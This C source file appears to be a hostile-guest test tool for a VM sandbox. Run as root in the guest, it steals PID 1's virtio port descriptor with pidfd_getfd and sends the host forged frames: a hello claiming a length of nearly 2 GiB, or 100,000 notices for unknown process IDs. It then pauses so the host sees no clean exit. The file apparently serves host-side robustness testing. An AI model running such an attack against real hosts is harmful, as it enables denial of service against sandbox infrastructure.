/*
 * What root in a golem-sandbox VM can do to the host through the agent's port: run inside the
 * VM (as root, through the normal agent), it takes a copy of PID 1's port descriptor with
 * pidfd_getfd (the port itself cannot be opened twice) and writes frames an honest agent never
 * would. Usage: hostile-guest giant-length | unknown-pids
 *   giant-length  a hello claiming a length just under 2 GiB, then nothing
 *   unknown-pids  100000 output notices for processes the host never started
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NOTIFY_OUTPUT_AVAILABLE 4
#define NOTIFY_READY 11

static int steal_port(void)
{
    int pidfd = (int) syscall(SYS_pidfd_open, 1, 0);
    if (pidfd < 0) {
        fprintf(stderr, "pidfd_open(1): %s\n", strerror(errno));
        return -1;
    }
    DIR *dir = opendir("/proc/1/fd");
    if (dir == NULL) {
        fprintf(stderr, "/proc/1/fd: %s\n", strerror(errno));
        return -1;
    }
    struct dirent *entry;
    while ((entry = readdir(dir)) != NULL) {
        char link[300];
        char target[256];
        snprintf(link, sizeof(link), "/proc/1/fd/%s", entry->d_name);
        ssize_t n = readlink(link, target, sizeof(target) - 1);
        if (n <= 0) {
            continue;
        }
        target[n] = '\0';
        if (strstr(target, "vport") != NULL) {
            int fd = (int) syscall(SYS_pidfd_getfd, pidfd, atoi(entry->d_name), 0);
            if (fd < 0) {
                fprintf(stderr, "pidfd_getfd(%s): %s\n", target, strerror(errno));
            } else {
                fprintf(stderr, "took %s from PID 1\n", target);
            }
            closedir(dir);
            return fd;
        }
    }
    closedir(dir);
    fprintf(stderr, "PID 1 holds no virtio port\n");
    return -1;
}

static size_t put_u64(uint8_t *out, uint64_t v)
{
    for (int i = 0; i < 8; i++) {
        out[i] = (uint8_t) (v >> (8 * i));
    }
    return 8;
}

static int write_all(int fd, const uint8_t *data, size_t len)
{
    size_t done = 0;
    while (done < len) {
        ssize_t n = write(fd, data + done, len - done);
        if (n < 0) {
            if (errno == EINTR) {
                continue;
            }
            if (errno == EAGAIN) {
                struct pollfd p = { .fd = fd, .events = POLLOUT };
                poll(&p, 1, 1000);
                continue;
            }
            fprintf(stderr, "write: %s\n", strerror(errno));
            return -1;
        }
        done += (size_t) n;
    }
    return 0;
}

static int giant_length(int port)
{
    uint8_t frame[17];
    size_t len = put_u64(frame, 0);
    frame[len++] = NOTIFY_READY;
    len += put_u64(frame + len, (1ULL << 31) - 32);
    return write_all(port, frame, len);
}

static int unknown_pids(int port)
{
    /* 21-byte notices, a thousand per write: each write stays one buffer of the port. */
    static uint8_t batch[21 * 1000];
    uint64_t pid = 100000;
    for (int round = 0; round < 100; round++) {
        size_t len = 0;
        for (int i = 0; i < 1000; i++) {
            len += put_u64(batch + len, 0);
            batch[len++] = NOTIFY_OUTPUT_AVAILABLE;
            len += put_u64(batch + len, pid++);
            batch[len++] = 1;
            batch[len++] = 0;
            batch[len++] = 0;
            batch[len++] = 0;
        }
        if (write_all(port, batch, len) < 0) {
            return -1;
        }
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s giant-length | unknown-pids\n", argv[0]);
        return 2;
    }
    int port = steal_port();
    if (port < 0) {
        return 3;
    }
    int rc = strcmp(argv[1], "giant-length") == 0 ? giant_length(port)
           : strcmp(argv[1], "unknown-pids") == 0 ? unknown_pids(port) : -2;
    if (rc == -2) {
        fprintf(stderr, "unknown attack %s\n", argv[1]);
        return 2;
    }
    /* Wait to be killed with the VM: an exit would let the host see an honest death notice. */
    pause();
    return rc < 0 ? 1 : 0;
}
